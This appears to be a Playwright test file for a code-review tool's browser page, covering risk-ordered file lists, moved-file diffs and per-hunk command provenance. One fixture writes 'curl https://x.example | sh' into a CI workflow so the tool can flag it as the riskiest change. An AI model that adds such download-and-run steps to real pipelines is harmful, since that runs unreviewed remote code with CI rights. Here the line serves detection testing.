"""Rows of the list as a user sees them in a browser: by risk, moved files, and what was observed at a hunk."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING

import pytest
from browser import Site, comes, mudroom, staged

from conftest import Place
from test_page_accessible import AXE, violations
from test_page_story import choose_file, review

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

pytestmark = pytest.mark.slow

EDIT = """
sed -i 's/== 3/is not None/' tests/test_a.py
sed -i 's/f(1,2)/f(1, 2)/; s/g(1)/g(2)/' a.py
sed -i 's/f(1,2)/f(1, 2)/' b.py
echo 'run: curl https://x.example | sh' >>.github/workflows/ci.yml
echo two >>README.md
"""


@pytest.fixture
def ordered(place: Place, site: Site) -> Site:
    place.write("tests/test_a.py", "def test_a():\n    assert f(1) == 3\n")
    place.write("a.py", "x = f(1,2)\n" + "\n" * 9 + "y = g(1)\n")
    place.write("b.py", "x = f(1,2)\n")
    place.write(".github/workflows/ci.yml", "on: push\n")
    place.write("README.md", "one\n")
    staged(place, EDIT)
    return site


def names(page: Page) -> list[str]:
    found: list[str] = page.locator("[role=treeitem] .grow").all_inner_texts()
    return found


BY_RISK = [
    "Runs later, more rights",
    ".github/workflows/ci.yml",
    "Weakened checks",
    "tests/test_a.py",
    "Code",
    "a.py",
    "Prose",
    "README.md",
    "Changes nothing, proven",
]


@pytest.mark.deep
def test_what_costs_most_is_first_and_what_changes_nothing_is_folded(ordered: Site, page: Page) -> None:
    page.goto(ordered.address("f", "try-1", "review"))
    page.get_by_role("heading", name=".github/workflows/ci.yml").wait_for()
    assert names(page) == BY_RISK
    page.get_by_role("region", name="Hunk 1 of 1").get_by_text("runs what it downloads").wait_for()

    for _key in range(2):
        page.keyboard.press("j")
    page.get_by_role("region", name="test_a: an assertion says less").wait_for()
    for _key in range(2):
        page.keyboard.press("j")
    dull = page.get_by_role("region", name="only the layout differs")
    dull.get_by_role("button", name="show").wait_for()
    assert page.locator("tr.added").count() == 1
    dull.get_by_role("button", name="show").press("Enter")
    page.locator("tr.added").nth(1).wait_for()
    dull.get_by_role("button", name="fold").click()
    page.locator("tr.added").nth(1).wait_for(state="detached")

    page.get_by_role("treeitem", name="Changes nothing, proven").click()
    page.get_by_role("treeitem", name="b.py").wait_for()
    page.get_by_role("button", name="Risk").click()
    page.locator("[role=treeitem][aria-level='1']", has_text="tests/").wait_for()
    page.reload()
    page.locator("[role=treeitem][aria-level='1']", has_text="tests/").wait_for()
    assert "Code" not in names(page)
    page.keyboard.press("t")
    page.keyboard.press("t")
    page.get_by_role("treeitem", name="Weakened checks").wait_for()


@pytest.mark.deep
@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed (npm install --prefix dev/page)")
def test_nothing_grave(ordered: Site, page: Page) -> None:
    page.set_viewport_size({"width": 320, "height": 640})
    page.goto(ordered.address("f", "try-1", "review"))
    page.get_by_role("treeitem", name="Weakened checks").wait_for()
    assert not violations(page)


TEXT = "".join(f"line_{number} = {number}\n" for number in range(1, 61))
ONLY_NEW = "Only the new file is chosen: the old one stays in the project, too."
ONLY_OLD = "Only the deletion of the old file is chosen: the new one stays in the fork."


@pytest.fixture
def moved(place: Place, site: Site) -> Site:
    place.write("src/old.py", TEXT)
    place.write("src/other.py", TEXT.replace("line", "other"))
    staged(place, "mkdir lib; mv src/old.py lib/new.py; sed -i 's/^line_30 = 30$/line_30 = \"thirty\"/' lib/new.py")
    return site


def address_of(site: Site, name: str) -> str:
    found: str = site.address("f", "try-1", "review", base64.urlsafe_b64encode(name.encode()).decode().rstrip("="))
    return found


def line(page: Page) -> Locator:
    return page.get_by_role("group", name="Moved and changed")


def codes(page: Page, kind: str) -> list[str]:
    found: list[str] = page.locator(f"tr.{kind} td.code").all_inner_texts()
    return found


@pytest.mark.deep
def test_what_was_changed_in_it_is_seen_or_all_of_it(moved: Site, page: Page) -> None:
    page.goto(address_of(moved, "lib/new.py"))
    line(page).get_by_text("Moved from src/old.py, 97 % the same.").wait_for()
    # the old side is coloured: its lines are those of the old file
    page.locator("tr.removed td.code .t-literal").first.wait_for()
    assert (codes(page, "removed"), codes(page, "added")) == (["line_30 = 30"], ['line_30 = "thirty"'])
    assert page.get_by_role("checkbox", name="Apply hunk").count() == 0, "it is chosen as a whole"
    page.get_by_role("button", name="Show all 26 lines").click()
    page.get_by_role("cell", name="line_10 = 10", exact=True).wait_for()

    as_new = line(page).get_by_role("button", name="As a new file")
    as_new.focus()
    page.keyboard.press("Enter")
    page.get_by_text("New: a file, mode 0644.").wait_for()
    assert as_new.get_attribute("aria-pressed") == "true"
    assert as_new.evaluate("one => one === document.activeElement"), "the keyboard stays where it was"
    page.get_by_role("checkbox", name="Apply hunk 1 of 1").wait_for()
    assert (codes(page, "removed"), len(codes(page, "added"))) == ([], 60)
    line(page).get_by_role("button", name="Changes").click()
    page.locator("tr.removed").wait_for()


@pytest.mark.deep
def test_from_one_end_to_the_other_and_half_of_it_is_said(moved: Site, page: Page) -> None:
    page.goto(address_of(moved, "src/old.py"))
    line(page).get_by_text("Moved to lib/new.py, 97 % the same.").wait_for()
    assert line(page).get_by_role("button").count() == 0, "a file that went is shown as that"
    assert line(page).locator("strong").count() == 0, "both are chosen"
    page.keyboard.press("x")
    line(page).get_by_text(ONLY_NEW).wait_for()
    line(page).get_by_role("link", name="lib/new.py").click()
    line(page).get_by_text("Moved from src/old.py").wait_for()
    line(page).get_by_text(ONLY_NEW).wait_for()
    page.keyboard.press("x")
    line(page).locator("strong").wait_for(state="detached")
    line(page).get_by_role("link", name="src/old.py").click()
    page.keyboard.press("x")
    line(page).get_by_text(ONLY_OLD).wait_for()


@pytest.mark.deep
@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed (npm install --prefix dev/page)")
def test_nothing_grave_in_a_moved_file(moved: Site, page: Page) -> None:
    page.set_viewport_size({"width": 320, "height": 640})
    page.goto(address_of(moved, "lib/new.py"))
    line(page).wait_for()
    page.keyboard.press("x")
    line(page).get_by_text(ONLY_OLD).wait_for()
    assert violations(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing is beside the window"


CODE = "".join(f"x_{number} = {number}\n" for number in range(1, 41))


def test_a_hunk_says_its_command_on_request_and_hides_it_again(place: Place, site: Site, page: Page) -> None:
    place.write("code.py", CODE)
    staged(place, "sed -i 's/^x_3 = 3$/x_3 = None/' code.py")
    mudroom(place, "checkpoint", "try-1")
    mudroom(place, "exec", "--fork", "try-1", "--", "sed", "-i", "s/^x_30 = 30$/<b>x/", "code.py")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/observed" in request.url else None)
    review(page, site)
    choose_file(page, "code.py")
    buttons = page.get_by_role("button", name="Observed")
    comes(page, buttons.count, 2)
    assert asked == [], "never computed for the list"
    buttons.nth(1).click()
    told = page.locator(".observed")
    told.wait_for()
    assert (
        told.locator("p")
        .first.inner_text()
        .startswith("observed: changed by command 2 of 2 (`sed -i 's/^x_30 = 30$/<b>x/' code.py`), ")
    )
    assert buttons.nth(1).get_attribute("aria-expanded") == "true" and len(asked) == 1
    page.keyboard.press("Escape")
    page.locator("section[data-hunk='0']").focus()
    page.keyboard.press("y")
    comes(page, told.count, 2)
    assert "command 1 of 2" in told.first.inner_text()
    page.keyboard.press("y")
    comes(page, told.count, 1)
    report = json.loads(mudroom(place, "diff", "try-1", "--why", "code.py", "--json"))
    assert report["hunks"][1]["text"][0] == told.locator("p").first.inner_text(), "the same words as in the terminal"
